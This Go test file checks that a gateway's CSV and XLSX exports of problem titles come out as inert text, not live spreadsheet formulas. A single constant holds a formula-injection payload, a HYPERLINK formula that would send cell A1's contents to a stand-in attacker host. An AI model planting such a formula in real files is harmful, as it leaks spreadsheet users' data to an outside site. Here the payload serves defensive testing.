package gateway

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"
	"github.com/xuri/excelize/v2"

	"signoff/gateway/door"
)

// plantedFormula is a problem title a hostile user might type: opened in a spreadsheet as a
// formula it would send the reader's neighbouring cells to another site.
const plantedFormula = `=HYPERLINK("http://evil.example/?leak="&A1,"open")`

// TestExportsNeutraliseFormulas: a planted formula in a problem's title comes out of the CSV
// drill-down with a leading apostrophe (shown as text by every spreadsheet), and out of the XLSX
// export as a string cell with no formula, exactly as typed.
func TestExportsNeutraliseFormulas(t *testing.T) {
	h := newHarness(t)
	now := seedBoards(t, h)
	plantTitle(t, h, plantedFormula)

	q, _ := url.ParseQuery(aroundNow(now))
	q.Set("dimension", "center")
	q.Set("format", "csv")
	r := h.do(call{Method: http.MethodGet, User: "liu.yang", Path: "/api/v1/kpi/completion/problems?" + q.Encode()})
	if r.Status != http.StatusOK {
		t.Fatalf("csv: %d %s", r.Status, r.Raw)
	}
	checkFileHeaders(t, "csv", r.Header, door.Attachment)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Raw, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var titles []string
	for _, row := range rows[1:] {
		titles = append(titles, row[1])
	}
	if !containsString(titles, "'"+plantedFormula) {
		t.Errorf("csv titles = %q, want the planted formula prefixed with an apostrophe", titles)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") {
				t.Errorf("csv cell %q would be evaluated", cell)
			}
		}
	}

	b := h.browser()
	b.signIn("liu.yang")
	x := b.get("/kpi/export.xlsx?" + aroundNow(now))
	if x.Status != http.StatusOK {
		t.Fatalf("xlsx: %d", x.Status)
	}
	checkFileHeaders(t, "xlsx", x.Header, door.Attachment)
	f, err := excelize.OpenReader(strings.NewReader(x.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[1]
	problems, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for i, row := range problems {
		if len(row) < 2 || row[1] != plantedFormula {
			continue
		}
		found = true
		cell, _ := excelize.CoordinatesToCellName(2, i+1)
		if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
			t.Errorf("xlsx %s holds formula %q (%v), want none", cell, formula, err)
		}
		if typ, err := f.GetCellType(sheet, cell); err != nil || (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) {
			t.Errorf("xlsx %s has type %v (%v), want a string", cell, typ, err)
		}
	}
	if !found {
		t.Errorf("xlsx problems = %q, want the planted title as typed", problems)
	}
}

// plantTitle gives the first problem the title, as if its raiser had typed it.
func plantTitle(t *testing.T, h *harness, title string) {
	t.Helper()
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, h.stack.URL)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(ctx)
	tag, err := conn.Exec(ctx, `UPDATE problems SET title = $1 WHERE id = (SELECT min(id) FROM problems)`, title)
	if err != nil || tag.RowsAffected() != 1 {
		t.Fatalf("plant title: %v (%d rows)", err, tag.RowsAffected())
	}
}

func containsString(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}
